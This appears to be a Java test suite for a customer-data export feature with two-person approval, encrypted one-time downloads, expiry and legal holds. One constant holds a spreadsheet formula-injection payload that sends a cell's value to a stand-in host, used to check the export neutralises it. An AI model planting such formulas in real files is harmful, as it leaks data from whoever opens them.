package io.safehand.server.deal.leaving;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.safehand.core.inventory.Purpose;
import io.safehand.core.ledger.Act;
import io.safehand.core.person.PersonId;
import io.safehand.core.rules.Stage;
import io.safehand.server.SafehandTest;
import io.safehand.server.base.SampleCompany;
import io.safehand.server.base.access.Access;
import io.safehand.server.base.access.Account;
import io.safehand.server.base.access.NotAllowed;
import io.safehand.server.base.access.Role;
import io.safehand.server.base.decisions.Decisions;
import io.safehand.server.base.ledger.Ledger;
import io.safehand.server.base.ledger.LedgerSearch;
import io.safehand.server.base.runs.Runs;
import io.safehand.server.base.signin.SessionToken;
import io.safehand.server.base.signin.Sessions;
import io.safehand.server.base.standing.Placing;
import io.safehand.server.base.standing.Standing;
import io.safehand.server.base.standing.Subject;
import io.safehand.server.base.storage.Storage;
import io.safehand.server.custody.inventory.AdoptedInventory;
import io.safehand.server.custody.inventory.Inventories;
import io.safehand.server.custody.records.Imports;
import io.safehand.server.custody.records.Vaults;
import io.safehand.server.deal.deals.Advance;
import io.safehand.server.deal.deals.Assignments;
import io.safehand.server.deal.deals.DealId;
import io.safehand.server.deal.deals.DealTerms;
import io.safehand.server.deal.deals.DealType;
import io.safehand.server.deal.deals.Deals;
import io.safehand.server.deal.deals.Proposal;
import io.safehand.server.start.OnDisk;
import io.safehand.server.start.SettableClock;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Stream;
import org.apache.poi.poifs.crypt.Decryptor;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/** A company takes its customers out in clear form, and nobody takes them out otherwise. */
@SafehandTest
@Timeout(120)
@ExtendWith(OutputCaptureExtension.class)
class LeavingsTest {
  private static final String FORMULA = "=HYPERLINK(\"http://192.0.2.1/\"&A1)";
  private static final String CANARY = "宋庭";
  private static final String INVENTORY = """
      format: 1
      version: "2026-01"
      purposes:
        - {purpose: service, zh: 服务, en: Service, travels: true, opens: {staff: masked, officer: full}}
        - {purpose: marketing, zh: 营销, en: Marketing, opens: {officer: full}}
      fields:
        - {field: name, category: name, group: a, purposes: [service], basis: contract, retention: P3Y, identity: true}
        - {field: mobile, category: mobile, group: a, purposes: [service], basis: contract, retention: P3Y}
        - {field: note, category: text, group: b, purposes: [service], basis: contract, retention: P3Y}
        - {field: email, category: email, group: c, purposes: [marketing], basis: consent, retention: P3Y}
      consents:
        - {column: news, purpose: marketing, given: [同意], refused: [拒绝]}
      """;

  @Autowired
  Leavings leavings;
  @Autowired
  Passphrases passphrases;
  @Autowired
  CopyRows rows;
  @Autowired
  CopyFolder folder;
  @Autowired
  Finishing finishing;
  @Autowired
  Runs runs;
  @Autowired
  Storage storage;
  @Autowired
  Access access;
  @Autowired
  Sessions sessions;
  @Autowired
  Inventories inventories;
  @Autowired
  Decisions decisions;
  @Autowired
  Imports imports;
  @Autowired
  Vaults vaults;
  @Autowired
  Deals deals;
  @Autowired
  Assignments assignments;
  @Autowired
  Standing standing;
  @Autowired
  Ledger ledger;
  @Autowired
  SettableClock clock;
  private SampleCompany company;
  private Account officer;
  private Account lawyer;

  @BeforeEach
  void people() throws Exception {
    company = SampleCompany.in(access);
    officer = company.person("officer", Role.SELLER_OFFICER);
    lawyer = company.person("lawyer", Role.SELLER_LAWYER);
    new AdoptedInventory(inventories, decisions).adopt(INVENTORY, officer, lawyer);
    Path file = Files.createTempFile("customers", ".csv");
    Files.writeString(file, """
        name,mobile,note,email,news
        %s,13900001234,"%s",songting@example.net,拒绝
        陆遥,13900005678,-2+3,luyao@example.net,同意
        何青,13900001111,,heqing@example.net,
        """.formatted(CANARY, FORMULA.replace("\"", "\"\"")));
    imports.run(company.id(), file, false, officer, ZoneId.of("Asia/Shanghai"), tally -> {});
    Files.delete(file);
  }

  @Test
  void twoPeopleTakeCustomersOutOnceUnderAPassphraseThatIsNowhere(CapturedOutput output) throws Exception {
    CopyId id = approved("service", "marketing");
    String passphrase = leavings.begin(sure(officer), id).exposed();
    await(id);
    assertThat(find(id)).returns(Copy.State.READY, Copy::state).returns(3L, Copy::people);
    assertThat(passphrases.of(id)).isEmpty();
    assertThat(files(id)).hasSize(1);
    assertThat(Files.readAllBytes(files(id).getFirst())).isNotEmpty();
    byte[] file;
    try (InputStream taken = leavings.take(sure(officer), id)) {
      file = taken.readAllBytes();
    }
    assertThat(files(id)).as("gone here").isEmpty();
    assertThatThrownBy(() -> leavings.take(sure(officer), id)).isInstanceOf(CopyRefused.class);
    assertThat(new String(file, StandardCharsets.UTF_8)).doesNotContain(CANARY);

    XSSFSheet sheet = open(file, passphrase);
    assertThat(texts(sheet, 0)).containsExactly("name", "mobile", "note", "email");
    assertThat(rows(sheet)).contains(List.of(CANARY, "13900001234", FORMULA, ""),
        List.of("陆遥", "13900005678", "-2+3", "luyao@example.net"), List.of("何青", "13900001111", "", ""));
    assertThat(quoted(sheet)).as("stay texts when they are edited")
        .containsExactlyInAnyOrder(FORMULA, "-2+3");
    assertThatThrownBy(() -> open(file, passphrase.toLowerCase(Locale.ROOT)))
        .isInstanceOf(AssertionError.class);

    assertThat(lines(Act.DISCLOSE)).as("three for service, one for marketing").isEqualTo(4);
    assertThat(lines(Act.COPY_MADE)).isEqualTo(1);
    assertThat(lines(Act.COPY_TAKEN)).isEqualTo(1);
    assertThat(output.getAll()).doesNotContain(passphrase).doesNotContain(CANARY);
    assertThat(OnDisk.holding(passphrase)).isEmpty();
    leavings.attestDestroyed(officer, id);
    assertThat(find(id).state()).isEqualTo(Copy.State.DESTROYED);
    assertThatThrownBy(() -> leavings.attestDestroyed(lawyer, id)).isInstanceOf(NotAllowed.class);
  }

  @Test
  void nobodyAloneTakesAnythingOut() {
    CopyId id = leavings.ask(officer, wanted("service"));
    assertThatThrownBy(() -> leavings.begin(sure(officer), id)).isInstanceOfSatisfying(CopyRefused.class,
        refused -> assertThat(refused.code()).isEqualTo("leaving.not-decided"));
    decisions.approve(officer, find(id).matter(), hash(id));
    assertThatThrownBy(() -> leavings.begin(sure(officer), id)).isInstanceOf(CopyRefused.class);
    decisions.approve(lawyer, find(id).matter(), hash(id));
    Sessions.SignedIn unproven = sessions.find(sessions.begin(officer)).orElseThrow();
    assertThatThrownBy(() -> leavings.begin(unproven, id)).isInstanceOf(NotAllowed.class);
    Account other = company.person("other", Role.SELLER_OFFICER);
    assertThatThrownBy(() -> leavings.begin(sure(other), id)).as("asked for by somebody else")
        .isInstanceOf(NotAllowed.class);
    assertThatThrownBy(() -> leavings.begin(sure(lawyer), id)).isInstanceOf(NotAllowed.class);
    assertThatThrownBy(() -> leavings.ask(lawyer, wanted("service"))).isInstanceOf(NotAllowed.class);
    Account stranger = SampleCompany.in(access).person("officer", Role.SELLER_OFFICER);
    assertThat(leavings.find(stranger, id)).isEmpty();
    assertThatThrownBy(() -> leavings.begin(sure(stranger), id)).isInstanceOf(CopyRefused.class);
    assertThat(lines(Act.DISCLOSE)).isZero();
  }

  @Test
  void anotherInventoryThanTheOneVotedOnVoidsTheVote() {
    CopyId id = approved("service");
    new AdoptedInventory(inventories, decisions).adopt(INVENTORY.replace("2026-01", "2026-02"), officer,
        lawyer);
    assertThatThrownBy(() -> leavings.begin(sure(officer), id)).isInstanceOf(CopyRefused.class);
  }

  @Test
  void anInventoryThatComesBetweenVoidsWhatIsBeingWritten() throws Exception {
    CopyId id = approved("service");
    storage.run(company.id(), () -> rows.writing(company.id(), id));
    passphrases.keep(id, Passphrase.draw(new SecureRandom()));
    new AdoptedInventory(inventories, decisions).adopt(INVENTORY.replace("2026-01", "2026-02"), officer,
        lawyer);
    assertThatThrownBy(() -> finishing.ready(find(id), officer, 3)).isInstanceOf(CopyRefused.class);
    runs.begin(officer, Leavings.KIND, id.subject());
    await(id);
    assertThat(find(id)).returns(Copy.State.FAILED, Copy::state)
        .returns("leaving.not-decided", Copy::problem);
    assertThat(files(id)).isEmpty();
    assertThat(lines(Act.DISCLOSE) + lines(Act.COPY_MADE)).isZero();
  }

  @Test
  void whoeverHasNoDecisionLearnsNothingOfADeal() {
    CopyId id = leavings.ask(officer, wanted("service"));
    signed();
    assertThatThrownBy(() -> leavings.begin(sure(officer), id)).isInstanceOfSatisfying(CopyRefused.class,
        refused -> assertThat(refused.code()).isEqualTo("leaving.not-decided"));
  }

  @Test
  void aStrayFileHindersNoSweep() throws IOException {
    CopyId id = approved("service");
    leavings.begin(sure(officer), id);
    await(id);
    Path stray = Files.createFile(files(id).getFirst().resolveSibling("notes.xlsx"));
    assertThat(folder.all(company.id())).containsExactly(id);
    Files.delete(stray);
  }

  @Test
  void oneVoteWritesOneFile() {
    CopyId id = approved("service");
    leavings.begin(sure(officer), id);
    assertThatThrownBy(() -> leavings.begin(sure(officer), id)).isInstanceOf(CopyRefused.class);
    await(id);
  }

  @Test
  void whatNobodyTakesIsErasedAfterADay() throws IOException {
    CopyId id = approved("service");
    leavings.begin(sure(officer), id);
    await(id);
    clock.advance(Finishing.WAITS);
    assertThatThrownBy(() -> leavings.take(sure(officer), id)).isInstanceOf(CopyRefused.class);
    assertThat(find(id).state()).isEqualTo(Copy.State.EXPIRED);
    assertThat(files(id)).isEmpty();
    assertThat(lines(Act.COPY_EXPIRED)).isEqualTo(1);
    clock.advance(Finishing.WAITS.negated());
  }

  @Test
  void whoeverIsHeldBackStaysOut() throws Exception {
    PersonId held = person(0);
    standing.place(company.id(), Placing.freeze(Subject.of(held), "court.order", "court.case"), "court");
    CopyId id = approved("service");
    String passphrase = leavings.begin(sure(officer), id).exposed();
    await(id);
    assertThat(find(id).people()).isEqualTo(2);
    try (InputStream taken = leavings.take(sure(officer), id)) {
      assertThat(open(taken.readAllBytes(), passphrase).getLastRowNum()).isEqualTo(2);
    }
    assertThat(lines(Act.DISCLOSE_REFUSED)).isEqualTo(1);
  }

  @Test
  void nothingLeavesBesideAHandOverAndTheRefusalIsThatOfAHold() throws Exception {
    CopyId early = approved("service");
    CopyId ready = approved("service");
    leavings.begin(sure(officer), ready);
    await(ready);
    signed();
    assertRefused(() -> leavings.begin(sure(officer), early));
    assertRefused(() -> leavings.take(sure(officer), ready));
    assertThat(find(ready).state()).as("not used up").isEqualTo(Copy.State.READY);

    Account calm = SampleCompany.in(access).person("officer", Role.SELLER_OFFICER);
    assertThat(leavings.all(calm, 10)).isEmpty();
  }

  @Test
  void aDealThatIsSignedWhileTheFileIsWrittenKeepsItIn() {
    CopyId id = approved("service");
    storage.run(company.id(), () -> rows.writing(company.id(), id));
    signed();
    assertRefused(() -> finishing.ready(find(id), officer, 3));
    assertThat(find(id).state()).isEqualTo(Copy.State.WRITING);
    assertThat(lines(Act.COPY_MADE)).isZero();
  }

  @Test
  void ofManyWhoTakeAtOnceOneGetsIt() throws Exception {
    CopyId id = approved("service");
    leavings.begin(sure(officer), id);
    await(id);
    List<Sessions.SignedIn> browsers = Stream.generate(() -> sure(officer)).limit(8).toList();
    try (ExecutorService at = Executors.newVirtualThreadPerTaskExecutor()) {
      List<Future<Boolean>> tries = at.invokeAll(browsers.stream().map(who -> taking(who, id)).toList());
      long got = 0;
      for (Future<Boolean> one : tries) {
        got += one.get() ? 1 : 0;
      }
      assertThat(got).isEqualTo(1);
    }
    assertThat(lines(Act.COPY_TAKEN)).isEqualTo(1);
  }

  private Callable<Boolean> taking(Sessions.SignedIn who, CopyId id) {
    return () -> {
      try (InputStream file = leavings.take(who, id)) {
        return file.readAllBytes().length > 0;
      } catch (CopyRefused refused) {
        return false;
      }
    };
  }

  @Test
  void aHoldOnTheCompanyKeepsEverythingIn() {
    CopyId id = approved("service");
    standing.place(company.id(), Placing.freeze(Subject.of(company.id()), "court.order", "court.case"),
        "court");
    assertRefused(() -> leavings.begin(sure(officer), id));
  }

  @Test
  void aServerThatStoppedHasLostThePassphraseAndTheCopyWithIt() throws Exception {
    CopyId id = approved("service");
    storage.run(company.id(), () -> rows.writing(company.id(), id));
    folder.write(company.id(), id).close();
    runs.begin(officer, Leavings.KIND, id.subject());
    await(id);
    assertThat(find(id)).returns(Copy.State.FAILED, Copy::state)
        .returns("leaving.passphrase-gone", Copy::problem);
    assertThat(files(id)).isEmpty();
    assertThat(lines(Act.DISCLOSE)).isZero();
  }

  @Test
  void whatMakesNoSenseIsNotAskedFor() {
    LocalDate today = LocalDate.ofInstant(clock.instant(), ZoneOffset.UTC);
    for (Wanted wrong : List.of(wanted("spying"),
        new Wanted(Set.of(), Wanted.Why.AUDIT, "c-1", Wanted.Place.CLOUD, today.plusDays(3)),
        new Wanted(Set.of(new Purpose("service")), Wanted.Why.AUDIT, "13900001234", Wanted.Place.CLOUD,
            today.plusDays(3)),
        new Wanted(Set.of(new Purpose("service")), Wanted.Why.AUDIT, "c-1", Wanted.Place.CLOUD,
            today.minusDays(3)),
        new Wanted(Set.of(new Purpose("service")), Wanted.Why.AUDIT, "c-1", Wanted.Place.CLOUD,
            today.plusYears(3)))) {
      assertThatThrownBy(() -> leavings.ask(officer, wrong)).isInstanceOf(CopyRefused.class);
    }
  }

  private void assertRefused(ThrowingCallable act) {
    assertThatThrownBy(act).isInstanceOfSatisfying(CopyRefused.class,
        refused -> assertThat(refused.code()).isEqualTo("leaving.held"));
  }

  private void signed() {
    Account manager = company.person("manager", Role.DEAL_MANAGER);
    DealId deal = deals.open(company.id(),
        DealTerms.of(DealType.MERGER_DIVISION, "Spring Rain", company.id(), SampleCompany.in(access).id()),
        manager);
    List.of(officer, lawyer).forEach(whom -> assignments.assign(deal, whom.id(), manager));
    while (deals.stage(company.id(), deal) != Stage.SIGNING) {
      Proposal proposal = deals.propose(company.id(), deal, manager);
      List.of(officer, lawyer)
          .forEach(by -> decisions.override(by, proposal.matter(), proposal.sha256(), "test"));
      assertThat(deals.advance(company.id(), deal, proposal.matter(), manager))
          .isInstanceOf(Advance.Moved.class);
    }
  }

  private CopyId approved(String... purposes) {
    CopyId id = leavings.ask(officer, wanted(purposes));
    decisions.approve(lawyer, find(id).matter(), hash(id));
    return id;
  }

  private Wanted wanted(String... purposes) {
    return new Wanted(Set.copyOf(Stream.of(purposes).map(Purpose::new).toList()), Wanted.Why.OTHER_SOFTWARE,
        "c-1", Wanted.Place.COMPUTER, LocalDate.ofInstant(clock.instant(), ZoneOffset.UTC).plusDays(30));
  }

  private Copy find(CopyId id) {
    return leavings.find(officer, id).orElseThrow();
  }

  private String hash(CopyId id) {
    return leavings.hash(company.id(), find(id)).orElseThrow();
  }

  private void await(CopyId id) {
    while (find(id).state() == Copy.State.WRITING) {
      Thread.onSpinWait();
    }
  }

  private Sessions.SignedIn sure(Account account) {
    SessionToken token = sessions.begin(account);
    sessions.steppedUp(sessions.find(token).orElseThrow());
    return sessions.find(token).orElseThrow();
  }

  private PersonId person(int at) {
    return vaults.store(company.id())
        .together(custody -> custody.records().inLeaves(0, vaults.leaves(company.id())))
        .get(at)
        .person();
  }

  private long lines(Act act) {
    ledger.sequence(company.id());
    return ledger.search(company.id(), LedgerSearch.newest(500).act(Optional.of(act.code()))).size();
  }

  private List<Path> files(CopyId id) throws IOException {
    return OnDisk.files()
        .stream()
        .filter(file -> file.getFileName().toString().contains(id.toString()))
        .toList();
  }

  private static Set<String> quoted(XSSFSheet sheet) {
    Set<String> quoted = new HashSet<>();
    sheet.forEach(row -> row.forEach(cell -> {
      if (cell.getCellStyle().getQuotePrefixed()) {
        quoted.add(cell.getStringCellValue());
      }
    }));
    return quoted;
  }

  private static List<List<String>> rows(XSSFSheet sheet) {
    return Stream.iterate(1, at -> at + 1).limit(sheet.getLastRowNum()).map(at -> texts(sheet, at)).toList();
  }

  private static List<String> texts(XSSFSheet sheet, int row) {
    return Stream.iterate(0, at -> at + 1)
        .limit(4)
        .map(at -> sheet.getRow(row).getCell(at).getStringCellValue())
        .toList();
  }

  private static XSSFSheet open(byte[] file, String passphrase) throws Exception {
    try (POIFSFileSystem sealed = new POIFSFileSystem(new ByteArrayInputStream(file))) {
      EncryptionInfo info = new EncryptionInfo(sealed);
      assertThat(info.getEncryptionMode()).isEqualTo(EncryptionMode.agile);
      assertThat(info.getHeader().getKeySize()).isEqualTo(256);
      Decryptor decryptor = Decryptor.getInstance(info);
      assertThat(decryptor.verifyPassword(passphrase)).isTrue();
      return new XSSFWorkbook(decryptor.getDataStream(sealed)).getSheetAt(0);
    }
  }
}
